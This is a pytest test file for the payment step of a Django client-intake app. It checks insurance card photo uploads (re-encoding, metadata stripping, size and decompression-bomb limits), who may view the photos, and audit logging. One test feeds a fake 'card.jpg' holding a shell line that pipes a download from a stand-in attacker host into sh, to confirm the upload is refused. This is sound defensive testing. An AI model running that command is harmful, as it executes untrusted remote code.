"""The payment step: each way of paying, card photos checked by content and re-encoded
without their metadata, refused photos that cost nothing else typed, and who may see them."""

import datetime as dt
import importlib
import io

import pillow_heif
import pytest
from django.apps import apps as django_apps
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse
from django.utils import timezone
from django.utils.html import escape
from PIL import Image

from intake.models import InsuranceCardImage, Intake
from intake.payment_services import (
    CARD_IMAGE_MAX_BYTES,
    ERROR_CARD_NOT_IMAGE,
    ERROR_CARD_TOO_LARGE,
    ERROR_CARD_TOO_MANY_PIXELS,
)
from intake.step_services import ERROR_SUBSCRIBER_DOB
from intake.steps import AGREEMENTS, PAYMENT, STEPS
from portal.models import AuditEvent
from portal.selectors import practice_forget
from tests.intake.factories import IntakeFactory

PAYMENT_URL = reverse("intake:step", kwargs={"number": PAYMENT})

INSURANCE = {
    "payment_method": "insurance",
    "insurance_plan": "Rocky Mountain Health Plans PPO",
    "insurance_member_id": "RMH4481923",
    "insurance_group_number": "GRP-7781",
    "subscriber_name": "Daniel Rivera",
    "subscriber_relationship": "spouse",
    "subscriber_date_of_birth": "1988-04-12",
    "secondary_insurance_plan": "Colorado Medicaid (Health First Colorado)",
    "secondary_member_id": "M552019",
    "secondary_group_number": "",
}


def _photo(fmt: str = "JPEG", size=(800, 500), exif: Image.Exif | None = None, **save) -> bytes:
    image = Image.new("RGB", size, (40, 90, 160))
    out = io.BytesIO()
    if exif is not None:
        save["exif"] = exif
    image.save(out, format=fmt, **save)
    return out.getvalue()


def _gps_exif() -> Image.Exif:
    exif = Image.Exif()
    exif[0x010F] = "PhoneMaker"  # camera make
    gps = exif.get_ifd(0x8825)
    gps[1] = "N"
    gps[2] = (39.0, 44.0, 11.0)
    gps[3] = "W"
    gps[4] = (104.0, 58.0, 23.0)
    return exif


def _upload(name: str, data: bytes, content_type: str = "image/jpeg") -> SimpleUploadedFile:
    return SimpleUploadedFile(name, data, content_type=content_type)


@pytest.fixture
def signed_in(client, client_user):
    client.force_login(client_user)
    return client


@pytest.fixture
def draft(client_user):
    return IntakeFactory(client=client_user, legal_name="Hope Rivera", current_step=PAYMENT)


def test_payment_step_comes_right_before_the_agreements():
    numbers = [step.number for step in STEPS]
    assert numbers == sorted(numbers)
    assert numbers.index(AGREEMENTS) == numbers.index(PAYMENT) + 1


def test_self_pay_is_saved_and_leads_to_the_agreements(signed_in, draft):
    response = signed_in.post(PAYMENT_URL, {"payment_method": "self_pay", "action": "next"})
    assert response.status_code == 302
    assert response["Location"] == reverse("intake:step", kwargs={"number": AGREEMENTS})
    draft.refresh_from_db()
    assert draft.payment_method == Intake.PaymentMethod.SELF_PAY
    assert draft.insurance_plan == ""


def test_talk_first_is_an_answer_and_asks_nothing_more(signed_in, draft):
    response = signed_in.post(PAYMENT_URL, {"payment_method": "talk_first", "action": "next"})
    assert response.status_code == 302
    draft.refresh_from_db()
    assert draft.payment_method == Intake.PaymentMethod.TALK_FIRST
    assert not InsuranceCardImage.objects.filter(intake=draft).exists()


def test_insurance_without_photos_keeps_every_detail(signed_in, draft):
    response = signed_in.post(PAYMENT_URL, {**INSURANCE, "action": "next"})
    assert response.status_code == 302
    draft.refresh_from_db()
    assert draft.payment_method == Intake.PaymentMethod.INSURANCE
    assert draft.insurance_member_id == "RMH4481923"
    assert draft.insurance_group_number == "GRP-7781"
    assert draft.subscriber_relationship == Intake.SubscriberRelationship.SPOUSE
    assert draft.subscriber_date_of_birth == dt.date(1988, 4, 12)
    assert draft.secondary_member_id == "M552019"
    assert not InsuranceCardImage.objects.filter(intake=draft).exists()


def test_insurance_with_photos_keeps_both_sides_re_encoded(signed_in, draft):
    response = signed_in.post(
        PAYMENT_URL,
        {
            **INSURANCE,
            "card_front": _upload("front.png", _photo("PNG"), "image/png"),
            "card_back": _upload("IMG_0042.jpg", _photo("JPEG")),
            "action": "next",
        },
    )
    assert response.status_code == 302
    images = {image.side: image for image in InsuranceCardImage.objects.filter(intake=draft)}
    assert set(images) == {"front", "back"}
    for image in images.values():
        stored = image.file.read()
        assert stored.startswith(b"\xff\xd8")  # a JPEG, whatever was sent
        assert image.size == len(stored)
        assert "IMG_0042" not in image.file.name
    assert AuditEvent.objects.filter(object_type="insurance_card_image", client=draft.client).count() == 2


def test_a_new_photo_replaces_the_old_one_of_that_side(signed_in, draft):
    signed_in.post(PAYMENT_URL, {**INSURANCE, "card_front": _upload("a.jpg", _photo()), "action": "save"})
    first = InsuranceCardImage.objects.get(intake=draft)
    signed_in.post(
        PAYMENT_URL, {**INSURANCE, "card_front": _upload("b.jpg", _photo(size=(640, 400))), "action": "save"}
    )
    assert InsuranceCardImage.objects.filter(intake=draft).count() == 1
    assert InsuranceCardImage.objects.get(intake=draft).width == 640
    assert InsuranceCardImage.objects.get(intake=draft).pk == first.pk


def test_heic_photo_is_converted(signed_in, draft):
    heif = pillow_heif.from_pillow(Image.new("RGB", (600, 380), (10, 120, 60)))
    out = io.BytesIO()
    heif.save(out, format="HEIF")
    signed_in.post(
        PAYMENT_URL,
        {**INSURANCE, "card_front": _upload("card.heic", out.getvalue(), "image/heic"), "action": "save"},
    )
    image = InsuranceCardImage.objects.get(intake=draft)
    assert image.content_type == "image/jpeg"
    assert image.file.read().startswith(b"\xff\xd8")


def test_a_script_named_jpg_is_refused_and_nothing_typed_is_lost(signed_in, draft):
    script = b"#!/bin/sh\ncurl http://evil.example/x | sh\n"
    response = signed_in.post(
        PAYMENT_URL, {**INSURANCE, "card_front": _upload("card.jpg", script), "action": "next"}
    )
    assert response.status_code == 200
    assert escape(str(ERROR_CARD_NOT_IMAGE)) in response.content.decode()
    assert 'value="RMH4481923"' in response.content.decode()
    draft.refresh_from_db()
    assert draft.insurance_member_id == "RMH4481923"
    assert draft.subscriber_name == "Daniel Rivera"
    assert not InsuranceCardImage.objects.filter(intake=draft).exists()


def test_an_oversized_photo_is_refused_and_the_other_side_is_kept(signed_in, draft):
    huge = _photo() + b"\0" * CARD_IMAGE_MAX_BYTES
    response = signed_in.post(
        PAYMENT_URL,
        {
            **INSURANCE,
            "card_front": _upload("front.jpg", huge),
            "card_back": _upload("back.jpg", _photo()),
            "action": "next",
        },
    )
    assert response.status_code == 200
    assert escape(str(ERROR_CARD_TOO_LARGE)) in response.content.decode()
    assert list(InsuranceCardImage.objects.filter(intake=draft).values_list("side", flat=True)) == ["back"]
    draft.refresh_from_db()
    assert draft.insurance_plan == INSURANCE["insurance_plan"]


def test_a_picture_of_absurd_dimensions_is_refused(signed_in, draft):
    # Small on disk, enormous once decoded: a decompression bomb.
    bomb = _photo("PNG", size=(10_000, 6_000), optimize=True)
    response = signed_in.post(
        PAYMENT_URL, {**INSURANCE, "card_front": _upload("card.png", bomb, "image/png")}
    )
    assert response.status_code == 200
    assert escape(str(ERROR_CARD_TOO_MANY_PIXELS)) in response.content.decode()
    assert not InsuranceCardImage.objects.filter(intake=draft).exists()


@pytest.mark.parametrize("fmt", ["JPEG", "PNG"])
def test_location_and_camera_metadata_are_stripped(signed_in, draft, fmt):
    sent = _photo(fmt, exif=_gps_exif())
    with Image.open(io.BytesIO(sent)) as original:
        assert original.getexif().get_ifd(0x8825)  # the test photo does carry a location
    signed_in.post(
        PAYMENT_URL, {**INSURANCE, "card_front": _upload("c." + fmt.lower(), sent), "action": "save"}
    )
    image = InsuranceCardImage.objects.get(intake=draft)
    data = image.file.read()
    with Image.open(io.BytesIO(data)) as stored:
        assert dict(stored.getexif()) == {}
        assert "exif" not in stored.info
    assert b"PhoneMaker" not in data


def test_subscriber_born_in_the_future_is_refused_next_to_the_field(signed_in, draft):
    response = signed_in.post(
        PAYMENT_URL, {**INSURANCE, "subscriber_date_of_birth": "2999-01-01", "action": "next"}
    )
    assert response.status_code == 200
    assert escape(str(ERROR_SUBSCRIBER_DOB)) in response.content.decode()
    draft.refresh_from_db()
    assert draft.subscriber_date_of_birth is None
    assert draft.insurance_member_id == "RMH4481923"


def test_the_step_mentions_the_sliding_scale_only_when_offered(signed_in, draft, practice):
    assert "sliding scale" not in signed_in.get(PAYMENT_URL).content.decode()
    practice.sliding_scale_offered = True
    practice.save(update_fields=["sliding_scale_offered"])
    practice_forget()
    assert "sliding scale" in signed_in.get(PAYMENT_URL).content.decode()


def test_drafts_on_the_old_agreements_step_stay_on_the_agreements(client_user, second_client_user):
    on_agreements = IntakeFactory(client=client_user, current_step=9)
    sent = IntakeFactory(
        client=second_client_user, current_step=9, status=Intake.Status.SUBMITTED, submitted_at=timezone.now()
    )
    migration = importlib.import_module("intake.migrations.0019_drafts_move_to_agreements_after_payment")
    migration.forwards(django_apps, None)
    on_agreements.refresh_from_db()
    sent.refresh_from_db()
    assert on_agreements.current_step == AGREEMENTS
    assert sent.current_step == 9


# --- Who may see a card photo


@pytest.fixture
def card(client_user, draft):
    """A front photo on an intake the client has sent (staff see sent intakes)."""
    browser = Client()
    browser.force_login(client_user)
    browser.post(PAYMENT_URL, {**INSURANCE, "card_front": _upload("c.jpg", _photo()), "action": "save"})
    Intake.objects.filter(pk=draft.pk).update(status=Intake.Status.SUBMITTED, submitted_at=timezone.now())
    return InsuranceCardImage.objects.get(intake=draft)


@pytest.mark.parametrize("persona", ["client_user", "therapist", "front_desk", "practice_admin"])
def test_card_photo_is_shown_to_its_client_and_to_staff_with_an_audit_row(client, request, card, persona):
    user = request.getfixturevalue(persona)
    client.force_login(user)
    response = client.get(reverse("intake:card_image", kwargs={"pk": card.pk}))
    assert response.status_code == 200
    assert response["Content-Type"] == "image/jpeg"
    assert response["Cache-Control"] == "no-store"
    assert b"".join(response.streaming_content).startswith(b"\xff\xd8")
    assert AuditEvent.objects.filter(
        actor=user, action=AuditEvent.Action.VIEW, object_type="insurance_card_image", object_id=str(card.pk)
    ).exists()


def test_another_client_gets_404_for_a_card_photo(client, second_client_user, card):
    client.force_login(second_client_user)
    response = client.get(reverse("intake:card_image", kwargs={"pk": card.pk}))
    assert response.status_code == 404
    assert not AuditEvent.objects.filter(
        actor=second_client_user, object_type="insurance_card_image"
    ).exists()


def test_signed_out_visitor_is_sent_to_sign_in_for_a_card_photo(client, card):
    response = client.get(reverse("intake:card_image", kwargs={"pk": card.pk}))
    assert response.status_code == 302
    assert reverse("account_login") in response["Location"]


def test_a_card_photo_lost_from_storage_answers_404_not_an_error(client, front_desk, card):
    card.file.storage.delete(card.file.name)
    client.force_login(front_desk)
    assert client.get(reverse("intake:card_image", kwargs={"pk": card.pk})).status_code == 404
